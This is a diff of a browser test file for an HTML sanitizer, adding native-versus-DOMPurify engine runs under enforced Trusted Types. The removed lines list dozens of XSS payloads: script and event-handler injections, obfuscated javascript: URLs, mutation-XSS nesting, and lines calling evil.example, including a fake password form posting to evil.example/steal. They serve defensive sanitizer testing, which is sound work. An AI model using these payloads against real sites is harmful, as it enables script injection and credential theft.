@@ -1,101 +1,16 @@
 import { expect } from '@open-wc/testing';
 import { plainTextToFragment, sanitizeToFragment, TRUSTED_TYPES_POLICY_NAMES } from './sanitize.js';
-import { safeUrl } from './url-policy.js';
-import { attributeAllowed } from './policy.test-helper.js';
+import { violations } from './policy.test-helper.js';
+import { PWN, XSS_PAYLOADS as PAYLOADS } from './hostile-html.test-helper.js';
+import { hasNativeSanitizer, sanitizeWith } from './sanitizer-engine.test-helper.js';
+
+// Native where the browser has it; the *.dompurify.browser.test.ts twin forces the fallback.
+sanitizeWith('auto');
 
 declare global {
   interface Window {
     __pwned?: number;
   }
-}
-
-const PWN = 'window.__pwned=(window.__pwned||0)+1';
-
-/** XSS vectors; each would set window.__pwned if anything in it ran. */
-const PAYLOADS: readonly string[] = [
-  `<script>${PWN}</script>`,
-  `<img src=x onerror="${PWN}">`,
-  `<img src="https://example.com/a.png" onload="${PWN}">`,
-  `<svg onload="${PWN}"></svg>`,
-  `<svg><script>${PWN}</script></svg>`,
-  `<a href="javascript:${PWN}">x</a>`,
-  `<a href="JaVaScRiPt:${PWN}">x</a>`,
-  `<a href=" javascript:${PWN}">x</a>`,
-  `<a href="java&#x09;script:${PWN}">x</a>`,
-  `<a href="java&#10;script:${PWN}">x</a>`,
-  `<a href="&#x6A;avascript:${PWN}">x</a>`,
-  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}">x</a>`,
-  `<a href="javascript&colon;${PWN}">x</a>`,
-  `<a href="data:text/html,<script>${PWN}</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<p style="background:url(https://evil.example/beacon)">css beacon</p>`,
-  `<div style="position:fixed;inset:0;z-index:99999">overlay</div>`,
-  `<style>@import url(https://evil.example/x.css); p{background:url(https://evil.example/b)}</style><p>s</p>`,
-  `<link rel="stylesheet" href="https://evil.example/x.css">`,
-  `<form action="https://evil.example/steal"><input name="password"><button>Login</button></form>`,
-  `<button formaction="https://evil.example">x</button>`,
-  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
-  `<iframe src="javascript:parent.${PWN}"></iframe>`,
-  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
-  `<base href="https://evil.example/">`,
-  `<object data="javascript:${PWN}"></object>`,
-  `<embed src="javascript:${PWN}">`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
-  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${PWN}>"></path></textarea></mtext></svg></mglyph></mi></math>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
-  `<template><img src=x onerror="${PWN}"></template>`,
-  `<template><script>${PWN}</script></template>`,
-  `<details open ontoggle="${PWN}">x</details>`,
-  `<video><source onerror="${PWN}"></video>`,
-  `<audio src=x onerror="${PWN}"></audio>`,
-  `<body onload="${PWN}">`,
-  `<input autofocus onfocus="${PWN}">`,
-  `<marquee onstart="${PWN}">x</marquee>`,
-  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
-  `<img src="http://127.0.0.1/admin">`,
-  `<img src="//evil.example/x.png">`,
-  `<a href="https://user:pass@evil.example/">cred</a>`,
-  `<p id="x" class="slate-p" name="n" data-x="1" aria-hidden="true">attrs</p>`,
-  `<img src="x` + `" onerror="${PWN}">`,
-  `<a href="https://example.com/" onclick="${PWN}">ok</a>`,
-  `<xmp><img src=x onerror=${PWN}></xmp>`,
-  `<plaintext><img src=x onerror=${PWN}>`,
-  `<!--<img src=x onerror=${PWN}>-->`,
-  `<p>x</p><!--><img src=x onerror=${PWN}>-->`,
-  `<?xml-stylesheet href="https://evil.example/x.xsl"?><p>pi</p>`,
-  `<a href="https://example.com/">ok</a><a href="\u202ehttps://example.com">bidi</a>`,
-];
-
-const ALLOWED = new Set([
-  'a', 'abbr', 'b', 'blockquote', 'br', 'caption', 'code', 'dd', 'del', 'div', 'dl', 'dt', 'em',
-  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'ins', 'kbd', 'li', 'mark', 'ol', 'p',
-  'pre', 's', 'small', 'span', 'strong', 'sub', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th',
-  'thead', 'tr', 'u', 'ul',
-]);
-
-/** Every violation of the policy found in a sanitized tree (empty = clean). */
-function violations(root: ParentNode): string[] {
-  const found: string[] = [];
-  for (const el of root.querySelectorAll('*')) {
-    const tag = el.localName;
-    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace ${el.namespaceURI} <${tag}>`);
-    // The media gate's placeholder button is ours (media-gate.ts).
-    if (!ALLOWED.has(tag) && !(tag === 'button' && el.className === 'blocked-media-load')) found.push(`element <${tag}>`);
-    for (const attr of el.attributes) {
-      if (!attributeAllowed(tag, attr)) found.push(`attribute ${tag}[${attr.name}]`);
-      if (attr.name.startsWith('on')) found.push(`handler ${tag}[${attr.name}]`);
-    }
-    const href = el.getAttribute('href');
-    if (href !== null && safeUrl(href, 'link') !== href) found.push(`href ${href}`);
-    const src = el.getAttribute('src');
-    if (src !== null && (tag !== 'img' || safeUrl(src, 'media') !== src)) found.push(`src ${src}`);
-    if (tag === 'a' && /^https?:/.test(href ?? '') && (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')) {
-      found.push(`link without target/rel: ${href}`);
-    }
-  }
-  return found;
 }
 
 describe('sanitizeToFragment', () => {
@@ -206,7 +121,9 @@ describe('sanitizeToFragment', () => {
 });
 
 describe('sanitizeToFragment under enforced Trusted Types', () => {
-  it('works in a page with require-trusted-types-for, with zero violations', async () => {
+  // Both engines where the browser has both: the native one needs no policy, DOMPurify ours.
+  const engines = hasNativeSanitizer() ? (['native', 'dompurify'] as const) : (['dompurify'] as const);
+  for (const engine of engines) it(`works in a page with require-trusted-types-for, with zero violations (${engine})`, async () => {
     const frame = document.createElement('iframe');
     const csp = `require-trusted-types-for 'script'; trusted-types ${TRUSTED_TYPES_POLICY_NAMES.join(' ')}`;
     const moduleUrl = new URL('./sanitize.ts', import.meta.url).href;
@@ -220,17 +137,20 @@ describe('sanitizeToFragment under enforced Trusted Types', () => {
         try { document.createElement('div').innerHTML = '<b>x</b>'; } catch { enforced = true; }
         try {
           const m = await import(${JSON.stringify(moduleUrl)});
+          m.resetSanitizerForTests(${JSON.stringify(engine)});
+          await m.ensureSanitizer();
+          const engine = m.sanitizerEngine();
           const f = m.sanitizeToFragment('<p>Hi <a href="https://example.com/">x</a><img src=x onerror=alert(1)></p>');
           const host = document.createElement('div');
           host.append(f);
           // Let queued violation reports arrive before answering.
           await new Promise((r) => setTimeout(r, 50));
-          window.parent.postMessage({ tt: true, enforced, html: host.innerHTML, violations }, '*');
+          window.parent.postMessage({ tt: true, enforced, engine, html: host.innerHTML, violations }, '*');
         } catch (error) {
           window.parent.postMessage({ tt: true, enforced, html: 'error: ' + error, violations }, '*');
         }
       </script>`;
-    const result = new Promise<{ enforced: boolean; html: string; violations: string[] }>((resolve) => {
+    const result = new Promise<{ enforced: boolean; engine?: string; html: string; violations: string[] }>((resolve) => {
       window.addEventListener('message', function onMessage(e: MessageEvent) {
         if (e.data?.tt) {
           window.removeEventListener('message', onMessage);
@@ -239,10 +159,11 @@ describe('sanitizeToFragment under enforced Trusted Types', () => {
       });
     });
     document.body.append(frame);
-    const { enforced, html, violations: seen } = await result;
+    const { enforced, engine: used, html, violations: seen } = await result;
     frame.remove();
     // The frame really enforces Trusted Types (a raw innerHTML assignment was blocked)...
     expect(enforced).to.equal(true);
+    expect(used).to.equal(engine);
     // ...only that probe was reported, and sanitizing still produced the safe markup.
     expect(seen.filter((v) => !v.includes('<b>x</b>'))).to.deep.equal([]);
     expect(html).to.equal('<p>Hi <a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a></p>');
